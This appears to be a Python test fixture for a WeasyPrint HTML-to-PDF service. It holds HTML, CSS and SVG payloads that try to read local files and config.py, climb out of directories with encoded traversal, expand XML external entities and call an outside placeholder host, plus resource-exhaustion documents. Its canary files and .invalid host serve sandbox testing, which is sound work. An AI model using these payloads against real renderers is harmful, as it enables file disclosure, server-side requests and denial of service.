"""Papers made to harm: some reach for files and addresses, some are too heavy to lay out.

In the reaching ones FILE stands for the address of a file that must not be opened (without its ending), NAME for its
name, PATH for its path, UP for the path that climbs to it from app/static/print, HOST for an address that must not be
asked, NUL for the character. The heavy ones are functions, because some are megabytes long.
"""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Final

TOKEN: Final = "CANARY-6f1d2c"
HOST: Final = "canary.invalid:9"

BAIT: Final = {  # what lies about, waiting to be opened: ending -> content
    ".txt": TOKEN,
    ".css": f'body::after {{ content: "{TOKEN}" }}',
    ".svg": f'<svg xmlns="http://www.w3.org/2000/svg" width="90" height="90"><text id="t" y="20">{TOKEN}</text></svg>',
    ".html": f'<p id="t">{TOKEN}',
    ".ttf": TOKEN,
}

_REACHING: Final = r"""
== image of a file
<img src="FILE.svg">
== image of a path
<img src="PATH.svg">
== image from a web address
<img src="http://HOST/a.png">
== image from a secure web address
<img src="https://HOST/a.png">
== image from an FTP address
<img src="ftp://HOST/a.png">
== image from an address without a scheme
<img src="//HOST/a.png">
== image on another machine
<img src="\\HOST\share\a.png"><img src="file://HOST/share/a.png"><img src="file:////HOST/share/a.png">
== image that climbs out of the package
<img src="/static/print/UP.svg"><img src="/static/print/../print/UP.svg"><img src="ofd://package/static/print/UP.svg">
== image that climbs out in disguise
<img src="/static/print/%2e%2e/%2E%2E%2fUP.svg"><img src="/static/print/..%5cUP.svg"><img src="/static/print/..\UP.svg">
== image with an end in its name
<img src="FILE.svg%00.css"><img src="/static/print/draft.svgNULPATH"><img src="FILE.svgNUL">
== image with a set of sources
<img srcset="FILE.svg 1x"><picture><source srcset="FILE.svg"><img src="FILE.svg"></picture>
== image from our own settings
<img src="/config.py"><img src="/static/../../config.py"><img src="/static/print/../../core/pdf.py">
== object
<object data="FILE.svg" type="image/svg+xml"></object>
== embedded thing
<embed src="FILE.svg" type="image/svg+xml">
== frame in the page
<iframe src="FILE.html"></iframe>
== poster of a film
<video poster="FILE.svg" src="FILE.txt"></video><audio src="http://HOST/a.mp3"></audio>
== picture as a button
<input type="image" src="FILE.svg">
== attached file
<link rel="attachment" href="FILE.txt" title="mine">
== attached file behind a word
<a rel="attachment" href="FILE.txt">word</a>
== our own style sheet attached
<link rel="attachment" href="/static/print/agreement.css"><a rel="attachment" href="/static/print/agreement.css">x</a>
== style sheet
<link rel="stylesheet" href="FILE.css"><link rel="alternate stylesheet" href="FILE.css">
== style sheet from a web address
<link rel="stylesheet" href="http://HOST/a.css">
== style sheet that brings another
<style>@import url("FILE.css"); @import "http://HOST/a.css";</style>
== typeface
<style>@font-face { font-family: x; src: url("FILE.ttf"), local("DejaVu Sans") } p { font-family: x }</style>
== typeface from a web address
<style>@font-face { font-family: x; src: url(http://HOST/x.woff2) } p { font-family: x }</style>
== background
<style>body { background: url("FILE.svg") } p { background-image: url("http://HOST/a") }</style><p>x
== background of the sheet
<style>@page { background: url("FILE.svg"); @top-left { content: url("FILE.svg") } }</style>
== content before a paragraph
<style>p::before { content: url("FILE.svg") }</style><p>x
== content named by an attribute
<style>p::before { content: attr(data-x url) }</style><p data-x="FILE.svg">x
== background named by an attribute
<style>p::before { content: "x"; background: attr(data-x url) }</style><p data-x="FILE.svg">x
== marker of a list
<ul style="list-style-image: url(FILE.svg)"><li>x</ul>
== border
<p style="border: 9px solid; border-image: url(FILE.svg) 3">x
== mask, cursor, filter and shape
<p style="mask: url(FILE.svg); cursor: url(FILE.svg), auto; filter: url(FILE.svg#t); clip-path: url(FILE.svg#t)">x
<p style="mask-border: url(FILE.svg) 3; background: image-set('FILE.svg' 1x); shape-outside: url(FILE.svg)">x
== words from another place
<style>p::before { content: target-text(url("FILE.html#t")) target-counter(url("FILE.html#t"), page) }</style><p>x
== colour profile
<style>@color-profile --x { src: url("FILE.txt") } p { color: color(--x 0 0 0) }</style><p>x
== variable that holds an address
<style>p { --x: url("FILE.svg"); background: var(--x); content: var(--x) }</style><p>x
== drawing with an image
<svg width="90" height="90"><image href="FILE.svg" width="9" height="9"/>
<image xlink:href="http://HOST/a.png" width="9" height="9"/></svg>
== drawing that uses another
<svg width="90" height="90"><use href="FILE.svg#t"/><use xlink:href="FILE.svg#t"/></svg>
== drawing with a style
<svg width="90" height="90"><style>@import url("FILE.css"); @font-face { font-family: x; src: url("FILE.ttf") }
text { font-family: x; fill: url("FILE.svg#t") }</style><text y="9">x</text></svg>
== drawing with a page in it
<svg width="90" height="90"><foreignObject width="90" height="90"><img src="FILE.svg"/></foreignObject></svg>
== drawing with definitions of its own
<!DOCTYPE svg [<!ENTITY x SYSTEM "FILE.txt">]><?xml-stylesheet href="FILE.css"?>
<svg width="90" height="90"><text y="9">&x;</text></svg>
== drawing with a filter
<svg width="90" height="90"><filter id="f"><feImage href="FILE.svg"/></filter>
<g filter="url(#f)" mask="url(FILE.svg#t)" fill="url(FILE.svg#t)"><rect width="9" height="9"/></g></svg>
== drawing inside an address
<img src='data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><image href="FILE.svg"
width="9" height="9"/></svg>'>
== style sheet inside an address
<link rel="stylesheet" href="data:text/css,@import url(FILE.css);">
== another ground under the page
<base href="FILE.html"><img src="NAME.svg"><link rel="stylesheet" href="NAME.css">
== page that moves on and acts
<meta http-equiv="refresh" content="0; url=FILE.html"><script src="http://HOST/a.js"></script><script>alert(1)</script>
== old ways of naming a background
<body background="FILE.svg"><table background="FILE.svg"><tr><td background="http://HOST/a">x</table>
== links that lead out
<a href="javascript:app.alert(1)">a</a> <a href="FILE.txt">b</a> <a href="http://HOST/">c</a>
<a href="data:text/html,x">d</a>
<a href="/static/print/agreement.css">e</a> <a href="#here">stays</a> <i id="here">x</i>
== links made by style
<style>p { -weasy-link: url("http://HOST/") } b { -weasy-link: attr(title) }</style><p>x <b title="FILE.txt">y</b>
== form that sends itself
<style>* { appearance: auto }</style><form action="http://HOST/" method="post"><input name="a" value="b">
<input type="file" name="f"><button>go</button></form>
"""


def _pieces(written: str) -> dict[str, str]:
    named = (piece.partition("\n") for piece in written.split("== ")[1:])
    return {name: body for name, _, body in named}


REACHING: Final = _pieces(_REACHING)
NEVER_PRINTED: Final = {  # WeasyPrint gives up on these altogether: the paper fails, which is as safe as paper
    "background named by an attribute",
    "colour profile",
}


def lay_bait(folder: Path) -> Path:
    """Write the files that must not be opened; return their common path, without an ending."""
    bait = folder / "canary"
    for ending, content in BAIT.items():
        bait.with_suffix(ending).write_text(content, encoding="utf-8")
    return bait


def aimed(paper: str, bait: Path, package: Path) -> str:
    """Return a reaching paper that reaches for this bait; package is the folder that holds static/print."""
    climb = "../" * len((package / "static" / "print").parts[1:]) + str(bait).lstrip("/")
    body = paper.replace("FILE", bait.as_uri()).replace("PATH", str(bait)).replace("UP", climb)
    body = body.replace("HOST", HOST).replace("NAME", bait.name).replace("NUL", "\x00")
    return f'<!doctype html><html lang="en"><title>Paper</title><h1>Paper</h1>{body}<p>The end'


def _drawing() -> str:
    shapes = "".join(f'<circle cx="{n % 400}" cy="{n % 300}" r="3" opacity=".5"/>' for n in range(50_000))
    return f'<svg viewBox="0 0 400 300">{shapes}</svg>'


def _counters() -> str:
    rule = 'counter-increment: a 9999999; content: counter(a, lower-roman) counters(b, ".", armenian)'
    return f"<style>p {{ counter-reset: b 2147483647 }} p::before {{ {rule} }}</style>" + "<p>x" * 20_000


def _variables() -> str:
    doubled = "".join(f"--v{n}: var(--v{n - 1}) var(--v{n - 1}); " for n in range(1, 40))
    return f'<style>p {{ --v0: "word "; {doubled} }} p::before {{ content: var(--v39) }}</style><p>x'


HEAVY: Final[dict[str, Callable[[], str]]] = {
    "3,000 boxes inside one another": lambda: "<div>" * 3000 + "x",
    "60 tables inside one another": lambda: "<table><tr><td>" * 60 + "x",
    "500 lists inside one another": lambda: "<ol><li>x" * 500,
    "letters a billion pixels high": lambda: '<p style="font-size: 1e9px">x',
    "a margin wider than the world": lambda: "<style>@page { margin: 9e9mm } p { margin: 9e9px }</style><p>x",
    "6,000 sheets": lambda: '<p style="break-after: page">x' * 6000,
    "a hundred thousand words": lambda: "<p>" + "word and word " * 35_000,
    "a table of 100,000 cells": lambda: "<table>" + ("<tr>" + "<td>x" * 40) * 2500,
    "a drawing of 50,000 circles": _drawing,
    "counters without end": _counters,
    "variables that double forty times": _variables,
    "a million floats": lambda: "<style>hr { float: left; width: 1px }</style>" + "<hr>" * 1_000_000,
    "a word of three million letters": lambda: "<p>" + "w" * 3_000_000,
    "a picture of three million letters": lambda: f'<img src="data:image/png;base64,iVBORw0KGgo{"A" * 3_500_000}">',
    "soup": lambda: "<b><i><p><table><svg><tr>&#x0;<![CDATA[</p></table><select><li " * 2000,
}
